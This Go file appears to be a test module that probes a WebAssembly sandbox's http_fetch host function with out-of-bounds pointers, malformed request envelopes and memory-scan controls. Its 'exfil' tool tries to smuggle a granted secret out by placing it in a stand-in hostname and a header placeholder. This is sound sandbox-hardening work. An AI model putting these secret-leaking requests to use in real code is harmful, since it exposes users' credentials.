// Command fetcher is a wasmgw test module for the http_fetch host function:
// it makes requests through the SDK (fetch), passes bad ranges and
// envelopes to the raw import (raw), and reads a secret into its own memory
// on request (read_secret), the control that proves a memory scan would
// find a value that did enter the sandbox.
package main

import (
	"errors"
	"time"
	"unsafe"

	"github.com/wasmgw/wasmgw/guest"
)

//go:wasmimport wasmgw http_fetch
func rawHTTPFetch(reqPtr, reqLen, bufPtr, bufCap uint32) int32

//go:wasmimport wasmgw result_read
func rawResultRead(ptr, n uint32) int32

func addr(b []byte) uint32 { return uint32(uintptr(unsafe.Pointer(&b[0]))) }

// kept holds what the last calls received, so that it stays in linear
// memory for the test to scan.
var kept [][]byte

type fetchIn struct {
	Method    string            `json:"method,omitempty"`
	URL       string            `json:"url"`
	Headers   map[string]string `json:"headers,omitempty"`
	Body      string            `json:"body,omitempty"`
	TimeoutMS int64             `json:"timeout_ms,omitempty"`
}

type fetchOut struct {
	Status    int                 `json:"status,omitempty"`
	Headers   map[string][]string `json:"headers,omitempty"`
	Body      string              `json:"body,omitempty"`
	Truncated bool                `json:"truncated,omitempty"`
	Code      int32               `json:"code,omitempty"`
	Error     string              `json:"error,omitempty"`
	Egress    bool                `json:"egress,omitempty"`
	Network   bool                `json:"network,omitempty"`
}

func fetch(in fetchIn) (fetchOut, error) {
	resp, err := guest.Fetch(guest.FetchRequest{
		Method: in.Method, URL: in.URL, Headers: in.Headers, Body: []byte(in.Body),
		Timeout: time.Duration(in.TimeoutMS) * time.Millisecond,
	})
	if err != nil {
		out := fetchOut{Error: err.Error(), Egress: errors.Is(err, guest.ErrEgress), Network: errors.Is(err, guest.ErrNetwork)}
		var fe *guest.FetchError
		if errors.As(err, &fe) {
			out.Code = fe.Code
		}
		return out, nil
	}
	kept = append(kept, resp.Body)
	for k, vs := range resp.Headers {
		for _, v := range vs {
			kept = append(kept, []byte(k+": "+v))
		}
	}
	return fetchOut{Status: resp.Status, Headers: resp.Headers, Body: string(resp.Body), Truncated: resp.Truncated}, nil
}

type nameIn struct {
	Name string `json:"name"`
}

func readSecret(in nameIn) (int, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return 0, err
	}
	kept = append(kept, []byte(v))
	return len(v), nil
}

// exfil reads a granted secret and tries to carry it into the host's log
// and audit trail through http_fetch: as a host name and as a placeholder
// name. It returns the error codes.
func exfil(in nameIn) ([]int32, error) {
	v, err := guest.Secret(in.Name)
	if err != nil {
		return nil, err
	}
	var codes []int32
	for _, req := range []guest.FetchRequest{
		{URL: "https://" + v + ".example/"},
		{URL: "https://api.example/", Headers: map[string]string{"X": "{{secret:" + v + "}}"}},
	} {
		_, err := guest.Fetch(req)
		var fe *guest.FetchError
		if errors.As(err, &fe) {
			codes = append(codes, fe.Code)
		}
	}
	return codes, nil
}

type rawIn struct {
	// URL is an allowed destination for the small-buffer case.
	URL string `json:"url"`
}

// raw passes out-of-bounds ranges and bad envelopes to http_fetch and
// reports the codes, and what result_read returns after each.
func raw(in rawIn) (map[string]any, error) {
	buf := make([]byte, 64)
	b := addr(buf)
	const far = 0xFFFF_FF00
	garbage := []byte(`{"url":`)
	unknown := []byte(`{"url":"https://x.example","evil":1}`)
	ok := []byte(`{"url":"` + in.URL + `"}`)
	out := map[string]any{
		"req_past_end":   rawHTTPFetch(far, 1000, b, 64),
		"req_wraparound": rawHTTPFetch(0xFFFF_FFFF, 2, b, 64),
		"buf_wraparound": rawHTTPFetch(addr(ok), uint32(len(ok)), 0xFFFF_FFF0, 0x20),
		"garbage":        rawHTTPFetch(addr(garbage), uint32(len(garbage)), b, 64),
	}
	big := make([]byte, 4096)
	n := rawResultRead(addr(big), uint32(len(big)))
	out["garbage_explained"] = string(big[:max(n, 0)])
	out["unknown_field"] = rawHTTPFetch(addr(unknown), uint32(len(unknown)), b, 64)
	// A response larger than the buffer is kept for result_read.
	tiny := make([]byte, 4)
	n = rawHTTPFetch(addr(ok), uint32(len(ok)), addr(tiny), uint32(len(tiny)))
	out["small_buffer"] = n
	if n > 4 {
		full := make([]byte, n)
		out["small_buffer_read"] = rawResultRead(addr(full), uint32(n))
		out["small_buffer_again"] = rawResultRead(addr(full), uint32(n))
	}
	return out, nil
}

func init() {
	guest.Tool("fetch", "Makes one request through guest.Fetch and reports the response or the error.", fetch)
	guest.Tool("read_secret", "Reads a secret into the module's memory (a control for memory scans).", readSecret)
	guest.Tool("exfil", "Tries to carry a granted secret into the host's log and audit trail through http_fetch.", exfil)
	guest.Tool("raw", "Passes bad ranges and envelopes to http_fetch; returns the codes.", raw)
}

func main() {}
